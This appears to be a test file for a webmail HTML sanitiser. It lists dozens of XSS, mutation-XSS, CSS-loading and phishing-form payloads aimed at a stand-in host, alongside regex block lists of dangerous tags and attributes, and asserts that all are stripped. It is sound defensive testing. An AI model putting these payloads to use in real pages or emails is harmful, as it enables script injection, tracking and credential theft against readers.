// The table of attacks on message HTML (numbers after the project's list of 54): whatever goes in, what comes out
// holds no script, no handler, nothing that loads, and stays within the list of tags and attributes.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cleanHtml } from '#lib/webmail/html/clean-html.ts';

const image = 'data:image/png;base64,iVBORw0KGgo=';
const blocked = { mayLoadRemote: false, inlineImages: new Map([['logo@x', image]]) };
const open = { ...blocked, mayLoadRemote: true };

/** Everything a browser would run, load or obey; none may survive with images blocked. */
function assertHarmless(output: { html: string; css: string }, source: string): void {
  const { html, css } = output;
  const tags =
    /<\/?(script|style|iframe|object|embed|applet|svg|math|form|input|button|select|textarea|base|meta|link|template|video|audio|source|track|frame|frameset|noscript|xmp|plaintext|noembed|title|html|head|body|marquee|foreignobject|animate|set|use|area|map|isindex|keygen|portal)[\s/>]/i;
  assert.doesNotMatch(html, tags, source);
  const elements = html.match(/<[a-z][^>]*>/gi) ?? [];
  for (const element of elements) {
    const bare = element.replace(/"[^"]*"/g, '""');
    assert.doesNotMatch(bare, /[\s/"]on\w+\s*=/i, `handler in ${element}`);
    assert.doesNotMatch(
      bare,
      /\s(srcset|srcdoc|action|formaction|ping|poster|lowsrc|dynsrc|xlink:href|name|http-equiv|contenteditable|tabindex|is)\s*=/i,
      element,
    );
    for (const [, name, value] of element.matchAll(/\s(href|src|background)="([^"]*)"/gi)) {
      const isLink = name === 'href' && /^(https?:\/\/|mailto:|tel:|#m-)/i.test(value ?? '');
      assert.ok(
        isLink || (name !== 'href' && (value ?? '').startsWith('data:image/')),
        `${name}=${value}`,
      );
      if (name !== 'href') assert.doesNotMatch(value ?? '', /svg/i);
    }
  }
  assert.doesNotMatch(
    `${html}${css}`,
    /javascript:|vbscript:|expression\(|-moz-binding|behavior:/i,
    source,
  );
  const styles = `${css} ${(html.match(/style="[^"]*"/gi) ?? []).join(' ')}`;
  assert.doesNotMatch(
    styles,
    /url\((?!\s*["'&quot;]*data:image)|@import|@font-face|@namespace|image-set|cross-fade|var\(|env\(|attr\(/i,
    source,
  );
  assert.doesNotMatch(
    styles,
    /position|z-index|cursor:|content:|filter|mask|clip|animation|transition|transform:/i,
    source,
  );
  assert.doesNotMatch(css, /</, source);
}

const vectors: [why: string, html: string][] = [
  ['1 script in the body', 'a<script>alert(1)</script>b'],
  [
    '1 script in the head',
    '<html><head><script src=//e.example></script></head><body>a</body></html>',
  ],
  ['1 script after the end', '<html><body>a</body></html><script>alert(1)</script>'],
  ['1 script in odd case with a slash', '<ScRiPt/x>alert(1)</sCrIpT>'],
  ['2 handler on an image', '<img src=x onerror=alert(1)>'],
  ['2 handler without spaces', '<img/src="x"/onerror="alert(1)">'],
  ['2 handler on body', '<body onload=alert(1)>x'],
  ['2 handler on details', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['2 marquee and its event', '<marquee onstart=alert(1)>x</marquee>'],
  ['2 animation end', '<div style="animation-name:x" onanimationend=alert(1)>x</div>'],
  ['3 script link', '<a href="javascript:alert(1)">x</a>'],
  ['3 script link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['3 script link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['3 script link with a line end', '<a href="java\r\nscript:alert(1)">x</a>'],
  ['3 script link with NUL', '<a href="java\u0000script:alert(1)">x</a>'],
  ['3 script link in mixed case and spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['3 script link behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['4 area', '<map name=m><area href="javascript:alert(1)"></map>'],
  [
    '4 form action',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
  ],
  ['4 base', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
  ['5 HTML as data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['5 frame of data', '<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>'],
  ['6 vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  [
    '7 refresh',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><meta http-equiv=refresh content="0;url=http://e.example">',
  ],
  ['8 object', '<object data="data:text/html,x"></object><embed src=x><applet code=x></applet>'],
  ['8 srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['9 CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['10 conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x'],
  [
    '10 comment closed oddly',
    '<!--><img src=x onerror=alert(1)>--><!--x--!><script>alert(1)</script>',
  ],
  ['11 noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>'],
  ['11 noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['11 noframes', '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ['11 xmp', '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['11 plaintext', 'x<plaintext><script>alert(1)</script>'],
  ['11 textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['11 title', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['12 template', '<template><script>alert(1)</script></template>'],
  [
    '12 shadow root',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  ],
  [
    '13 form to a thief',
    '<form action="https://e.example"><input type=hidden name=a><input type=password name=p>sign in</form>',
  ],
  [
    '14 clobbering by name',
    '<img name=attributes><form id=attributes></form><a id=cookie name=body>x</a>',
  ],
  [
    '16 mutation: table in math in style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['16 mutation: p in svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    '16 mutation: form nesting',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['17 half-open tag at the end', 'x<img src=x onerror=alert(1) '],
  ['17 half-open attribute', 'x<a href="javascript:alert(1)'],
  ['18 svg with handler', '<svg onload=alert(1)><g onclick=alert(1)></g></svg>'],
  [
    '19 animate a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  [
    '19 animate, padded and prefixed',
    '<svg><animate attributeName=" xlink:HREF " to="javascript:alert(1)"/><set attributeName=href to=javascript:alert(1) /></svg>',
  ],
  [
    '20 from, to, by',
    '<svg><a><animate attributeName=href from=javascript:alert(1) to=1 by=2 /></a></svg>',
  ],
  ['21 use of data', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>'],
  [
    '21 svg as an image with a blank in its type',
    '<img src="data:image/svg+xml ;base64,PHN2Zz4="><img src="data: image/svg\n+xml,<svg onload=alert(1)>">',
  ],
  [
    '22 foreignObject',
    '<svg><foreignObject><body><script>alert(1)</script></body></foreignObject></svg>',
  ],
  [
    '23 feImage and friends',
    '<svg><filter><feImage href="http://e.example"/></filter><image href="http://e.example"/></svg>',
  ],
  [
    '24 paint and mask',
    '<svg><rect fill="url(http://e.example)" mask="url(http://e.example" cursor="url(http://e.example)"/></svg>',
  ],
  [
    '25 MathML',
    '<math href="javascript:alert(1)"><maction actiontype="statusline#http://e.example" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  [
    '26 namespace value with a quote',
    '<svg xmlns="x&quot; onload=&quot;alert(1)"><p xmlns:x=\'"><img src=x onerror=alert(1)>\'>x</p></svg>',
  ],
  [
    '27 images from elsewhere',
    '<img src="http://e.example/a"><img src="//e.example/a"><img src="ht\ntp://e.example/a"><img src="ftp://e.example/a"><img srcset="http://e.example/a 2x"><img lowsrc="http://e.example/a">',
  ],
  [
    '28 picture, video, audio, input',
    '<picture><source srcset="http://e.example/a"></picture><video src=http://e.example poster=http://e.example></video><audio src=http://e.example></audio><input type=image src=http://e.example>',
  ],
  [
    '29 background',
    '<body background="http://e.example/a"><table background="http://e.example/a"><tr><td background=//e.example/a>x</td></tr></table></body>',
  ],
  ['30 style url', '<p style="background:url(http://e.example/a)">x</p>'],
  ['30 style url with escapes', '<p style="background:\\75\\72\\6c(http://e.example/a)">x</p>'],
  [
    '30 style url with comments and case',
    '<p style="background:/**/URL(/*x*/\'HTTP://e.example/a\')">x</p>',
  ],
  ['30 style url unclosed', '<p style="background:url(\'http://e.example/a">x</p>'],
  [
    '30 image-set, cross-fade, var',
    '<p style="background:image-set(\'http://e.example/a\' 1x);background-image:cross-fade(url(http://e.example/a),red);--a:url(http://e.example/a);background:var(--a,url(http://e.example/b))">x</p>',
  ],
  [
    '31 import',
    '<style>@import "http://e.example/a.css";@import url(http://e.example/b.css);p{color:red}</style>x',
  ],
  [
    '31 font-face, list-style, content, cursor, filter',
    '<style>@font-face{font-family:x;src:url(http://e.example/f)}@namespace x url(http://e.example);ul{list-style:url(http://e.example/a)}p:before{content:url(http://e.example/b)}a{cursor:url(http://e.example/c),auto;filter:url(http://e.example/d)}</style>x',
  ],
  [
    '31 end of the style inside a string',
    '<style>p{font-family:"</style><img src=x onerror=alert(1)>"}</style>',
  ],
  ['31 escaped end of the style', '<style>p{font-family:"\\3c/style\\3e\\3cscript\\3e"}</style>x'],
  [
    '32 links',
    '<link rel=stylesheet href=http://e.example/a><link rel=dns-prefetch href=//e.example><link rel=preload href=http://e.example>',
  ],
  ['33 ping', '<a href="https://ok.example" ping="https://e.example">x</a>'],
  ['35 base', '<base href="http://e.example/"><img src="a.png"><a href="b">x</a>'],
  [
    '36 attribute selectors that load',
    '<style>a[href^="x"]{background:url(http://e.example/x)}input[value^=a]{background:url(//e.example/a)}</style>x',
  ],
  [
    '37 covering the page',
    '<div style="position:fixed;top:0;left:0;z-index:99999;width:100vw;height:100vh">x</div><div style="margin-top:-500px;position:absolute!important">y</div>',
  ],
  [
    '37 covering by a rule',
    '<style>:root{position:fixed!important}body{margin:-99px}div{position:sticky;top:0}</style>x',
  ],
  [
    '41 expression and binding',
    '<p style="width:expression(alert(1));-moz-binding:url(x);behavior:url(x)">x</p>',
  ],
];

describe('cleanHtml: nothing runs, nothing loads', () => {
  for (const [why, html] of vectors) {
    it(why, () => assertHarmless(cleanHtml(html, blocked), html));
  }

  it('15 deep nesting: 300 and 20,000 levels, in the time of a message', () => {
    for (const depth of [300, 20_000]) {
      const html = `${'<div>'.repeat(depth)}deep<script>alert(1)</script>${'</div>'.repeat(depth)}`;
      const clean = cleanHtml(html, blocked);
      assertHarmless(clean, `${depth} deep`);
      assert.ok((clean.html.match(/<div/g)?.length ?? 0) <= 200);
    }
  });

  it('stays harmless when fed its own output', () => {
    for (const [why, html] of vectors) {
      assertHarmless(cleanHtml(cleanHtml(html, blocked).html, blocked), why);
    }
  });
});

describe('cleanHtml: images', () => {
  it('counts and holds back what is remote, wherever it stands', () => {
    const html =
      '<style>p{background:url(http://e.example/1)}</style><img src="https://e.example/2" alt="Two"><table background="//e.example/3"></table><p style="background-image:url(https://e.example/4)">x</p>';
    const clean = cleanHtml(html, blocked);
    assert.equal(clean.remoteImages, 4);
    assert.doesNotMatch(clean.html + clean.css, /e\.example/);
    assert.match(clean.html, /alt="Two"/);
  });

  it('lets http and https images through when asked, nothing else', () => {
    const html =
      '<img src="https://e.example/2"><img src="ftp://e.example/3"><img src="/api/mail/actions"><img src="cid:logo@x">';
    const clean = cleanHtml(html, open);
    assert.match(clean.html, /src="https:\/\/e\.example\/2"/);
    assert.doesNotMatch(clean.html, /ftp:|api\/mail/);
    assert.ok(clean.html.includes(image));
  });

  it('47 resolves cid only to images of this message', () => {
    const html = '<img src="cid:logo@x"><img src="cid:other@x"><img src="CID:logo%40x">';
    const { html: clean } = cleanHtml(html, blocked);
    assert.equal(clean.split(image).length - 1, 2);
    assert.doesNotMatch(clean, /cid:/i);
  });

  it('keeps raster data and refuses other data', () => {
    const html = `<img src="${image}"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x">`;
    assert.equal((cleanHtml(html, blocked).html.match(/src=/g) ?? []).length, 1);
  });
});

describe('cleanHtml: what stays', () => {
  it('keeps ordinary formatting', () => {
    const html =
      '<p align="center" style="color: #333; font-weight: bold">a <b>b</b> <i>c</i></p><table width="600" cellpadding="0"><tr><td bgcolor="#eeeeee" colspan="2">d</td></tr></table>';
    const { html: clean } = cleanHtml(html, blocked);
    assert.match(clean, /style="color:#333;font-weight:bold"/);
    assert.match(clean, /<td bgcolor="#eeeeee" colspan="2">d<\/td>/);
  });

  it('keeps media queries and prefixes ids in rules, elements and links alike', () => {
    const html =
      '<style>@media (max-width:600px){#top{width:100%}}</style><p id="top">x</p><a href="#top">y</a>';
    const clean = cleanHtml(html, blocked);
    assert.match(clean.css, /@media \(max-width:600px\)\{#m-top\{width:100%\}\}/);
    assert.match(clean.html, /id="m-top"/);
    assert.match(clean.html, /href="#m-top"/);
  });

  it('39, 40 links open apart, without referrer, and name their host', () => {
    const html = '<a href="https://раураl.example/login" target="_top">https://paypal.example</a>';
    const { html: clean } = cleanHtml(html, blocked);
    assert.match(clean, /target="_blank"/);
    assert.match(clean, /rel="noopener noreferrer"/);
    assert.match(clean, /title="xn--[^"]+\.example/);
  });

  it('39 shows the host behind user-info', () => {
    const { html } = cleanHtml('<a href="https://bank.example@e.example/">x</a>', blocked);
    assert.match(html, /title="e\.example/);
  });

  it('tells a message with colours of its own from one without', () => {
    assert.equal(cleanHtml('<p>a <b>b</b></p>', blocked).hasColors, false);
    assert.equal(cleanHtml('<p style="background:#fff">a</p>', blocked).hasColors, true);
    assert.equal(cleanHtml('<style>p{color:red}</style><p>a</p>', blocked).hasColors, true);
  });

  it('escapes text that only looks like markup', () => {
    assert.equal(cleanHtml('&lt;script&gt;x', blocked).html, '&lt;script&gt;x');
  });

  it('does not let one image grow a message without end', () => {
    const big = `data:image/png;base64,${'A'.repeat(1024 * 1024)}`;
    const inlineImages = new Map([['a@b', big]]);
    const { html } = cleanHtml('<img src="cid:a@b">'.repeat(2000), {
      mayLoadRemote: false,
      inlineImages,
    });
    assert.ok(html.length < 26 * 1024 * 1024, `${html.length} characters`);
    assert.ok(html.startsWith('<img src="data:image/png;base64,AAAA'));
  });
});
